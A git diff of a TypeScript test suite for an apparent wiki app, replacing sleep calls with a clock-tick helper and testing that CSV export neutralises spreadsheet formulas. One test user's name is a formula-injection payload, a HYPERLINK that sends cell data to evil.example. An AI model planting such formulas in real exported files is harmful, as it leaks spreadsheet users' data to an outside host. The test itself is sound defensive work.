@@ -7,6 +7,7 @@ import { createApiToken, revokeApiToken } from "@/lib/commands/tokens";
 import { addMember, changeMemberRole } from "@/lib/commands/wikis";
 import { makeUser, makeWikiWithMembers } from "../helpers/fixtures";
 import { sessionCookieFrom } from "../helpers/session-cookie";
+import { clockTick } from "../helpers/wait";
 import { withServer } from "../helpers/with-server";
 
 type TestUser = Awaited<ReturnType<typeof makeUser>>;
@@ -106,16 +107,14 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
-
 beforeAll(async () => {
   owner = await makeUser("Olivia Owner");
   editor = await makeUser("Eddie Editor");
   viewer = await makeUser("Vera Viewer");
   leaver = await makeUser("Leo Leaver");
   otherOwner = await makeUser("Oscar Other");
-  // Wait a moment so the users' first tokens predate their memberships.
-  await sleep(5);
+  // The users' first tokens predate their memberships.
+  await clockTick();
   ({ wiki, page } = await makeWikiWithMembers(owner, [
     { user: editor, role: "editor" },
     { user: viewer, role: "viewer" },
@@ -349,7 +348,7 @@ describe("CSV export", () => {
   it("is parseable CSV with the same events as the API, formula cells neutralised", async () => {
     // A member whose name a spreadsheet would run, doing something that lands in the log.
     const prankster = await makeUser('=HYPERLINK("http://evil.example/?"&A1,"Details")');
-    await sleep(5);
+    await clockTick();
     addMember(wiki.id, prankster.email, "editor", owner.id);
     createApiToken(prankster.id, "@SUM(1+1)");
     expect((await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: "+1, \"quoted\"\nand a new line" } })).status).toBe(201);
